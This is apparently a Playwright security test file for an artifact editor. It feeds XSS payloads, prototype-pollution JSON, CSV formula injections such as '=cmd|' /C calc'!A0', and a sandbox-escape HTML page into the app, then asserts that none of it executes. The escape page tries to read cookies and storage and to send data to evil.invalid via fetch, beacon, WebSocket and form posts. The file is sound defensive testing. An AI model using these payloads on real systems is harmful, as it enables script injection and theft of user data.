import { expect, test } from '../support/test';
import { WorkshopPage } from '../pages/workshop';

/** Whoever is reached here was attacked: no such machine exists. */
const EVIL = 'https://evil.invalid';
const SCRIPT = `<script>window.hacked=1;alert(1);fetch('${EVIL}/s')</script><img src=x onerror="window.hacked=1;alert(1)"><svg onload="window.hacked=1"><a href="javascript:hacked=1">x</a></svg>`;

/** What each kind is given; none of it may do anything. */
const ATTACKS: [string, string][] = [
  ['code', `// ${SCRIPT}\nlet a = "</pre></li></ol>${SCRIPT}";`],
  ['json', JSON.stringify({ ['__proto__']: { hacked: 1 }, constructor: { prototype: { hacked: 1 } }, [SCRIPT]: [SCRIPT, { toString: SCRIPT }] }).replace('"constructor"', '"__proto__":{"hacked":1},"constructor"')],
  ['markdown', `# ${SCRIPT}\n\n[uno](javascript:hacked=1) [dos](data:text/html,${encodeURIComponent(SCRIPT)}) ![tres](${EVIL}/p.png) <${EVIL}/a>\n\n${SCRIPT}\n\n\`\`\`mermaid\nflowchart LR\n A["${SCRIPT.replaceAll('"', '')}"]\n click A "javascript:hacked=1"\n\`\`\``],
  ['diagram', `flowchart LR\n  A["<img src=x onerror=hacked=1>"] --> B["<script>hacked=1</script>"]\n  click A "javascript:hacked=1"\n  click B call hacked()\n`],
  ['latex', `\\href{javascript:hacked=1}{x} $\\text{${SCRIPT}}$ $$\\url{javascript:hacked=1}$$ ${SCRIPT}`],
  ['table', `a,b\n"${SCRIPT.replaceAll('"', '""')}",=cmd|' /C calc'!A0\n"=HYPERLINK(""${EVIL}"")",@SUM(1+1)\n-1,+1\n`],
];

const attack = test.extend<{ workshop: WorkshopPage; watched: { out: string[] } }>({
  workshop: async ({ page, script }, use) => use(new WorkshopPage(page, script)),
  watched: async ({ context }, use) => {
    const out: string[] = [];
    // What a policy forbids never gets this far.
    await context.route(
      (url) => /^https?:$/.test(url.protocol) && url.hostname !== '127.0.0.1',
      (route) => {
        out.push(route.request().url());
        return route.abort();
      },
    );
    context.on('dialog', (dialog) => {
      out.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await use({ out });
    expect(out).toEqual([]);
  },
});

for (const [kind, content] of ATTACKS) {
  attack(`what is written in ${kind} runs nowhere and reaches nobody @script`, async ({ page, product, workshop, watched }) => {
    const { id } = await product.api<{ id: string }>('POST', '/artifacts', { type: kind, title: `<b onclick=hacked=1>${kind}</b>`, content });
    await workshop.show(id);
    await workshop.edit();
    if (kind !== 'table') await workshop.type('\n');
    await page.waitForTimeout(700);
    await workshop.act('Cancelar');
    await workshop.act('Versiones');
    for (const link of await workshop.view.locator('a').all()) expect(await link.getAttribute('href')).not.toMatch(/^(javascript|data):/i);
    await page.goto('/artifacts');
    await expect(page.locator('.artifact-list')).toContainText('<b onclick');
    expect(await page.evaluate(() => [(window as any).hacked, ({} as any).hacked])).toEqual([undefined, undefined]);
    expect(watched.out).toEqual([]);
  });
}

attack('formulas in a table leave as text @script', async ({ product, workshop, watched }) => {
  const content = ATTACKS.find(([kind]) => kind === 'table')![1];
  const { id } = await product.api<{ id: string }>('POST', '/artifacts', { type: 'table', title: 'T', content });
  await workshop.show(id);
  const csv = (await workshop.exported('CSV')).toString();
  for (const line of csv.split('\n')) expect(line).not.toMatch(/(^|,)"?[=@]/);
  expect(csv).toContain('-1,+1');
  expect(watched.out).toEqual([]);
});

const PRISONER = `<!DOCTYPE html><html><head><meta http-equiv="refresh" content="3;url=${EVIL}/refresh">
<link rel="stylesheet" href="${EVIL}/style.css"><link rel="prefetch" href="${EVIL}/prefetch">
</head><body><p id="said">…</p><img src="${EVIL}/img.png"><iframe src="${EVIL}/frame"></iframe>
<form id="f" action="${EVIL}/form" method="post"><input name="a" value="b"></form>
<script>
const escaped = [];
const tries = {
  cookie: () => document.cookie,
  storage: () => localStorage.length || 'some',
  session: () => sessionStorage.length || 'some',
  database: () => indexedDB.open('x') && 'some',
  parent: () => parent.document.title || 'some',
  top: () => { top.location = '${EVIL}/top'; return top.location.href; },
  opened: () => open('${EVIL}/open') && 'some',
  form: () => { document.getElementById('f').submit(); },
  peer: () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.invalid:3478' }] }) && 'some',
  beacon: () => navigator.sendBeacon('${EVIL}/beacon') && 'some',
  socket: () => { new WebSocket('wss://evil.invalid/'); },
};
(async () => {
  for (const [name, attempt] of Object.entries(tries)) { try { const got = attempt(); if (got && name !== 'beacon') escaped.push(name + ': ' + got); } catch {} }
  try { await fetch('${EVIL}/fetch', { mode: 'no-cors' }); escaped.push('fetch'); } catch {}
  try { await fetch('/api/v1/models'); escaped.push('fetch home'); } catch {}
  try { await import('${EVIL}/import.js'); escaped.push('import'); } catch {}
  await new Promise((done) => {
    setTimeout(done, 500);
    try {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      worker.onmessage = () => escaped.push('worker');
    } catch {}
  });
  document.getElementById('said').textContent = escaped.length ? escaped.join(', ') : 'nothing';
  setTimeout(() => { location.href = '${EVIL}/lead?' + document.title; }, 1500);
})();
</script></body></html>`;

attack('a page in its frame reaches no origin, no cookie, no storage, no parent and no network @script', async ({ page, product, workshop, watched, complaints }) => {
  // The browser says each time what it did not allow.
  complaints.allow(/./);
  const { id } = await product.api<{ id: string }>('POST', '/artifacts', { type: 'html', title: 'Preso', content: PRISONER });
  await workshop.show(id);
  await expect(workshop.view.frameLocator('iframe').first().locator('#said')).toHaveText('nothing');
  await page.waitForTimeout(4_500);
  expect(page.url()).toContain(`/artifacts/${id}`);
  // As it is written, too.
  await workshop.show(id);
  await workshop.edit();
  await expect(workshop.view.frameLocator('iframe').first().locator('#said')).toHaveText('nothing');
  await page.waitForTimeout(4_500);
  expect(page.url()).toContain(`/artifacts/${id}`);
  expect(page.context().pages()).toHaveLength(1);
  expect(watched.out).toEqual([]);
});
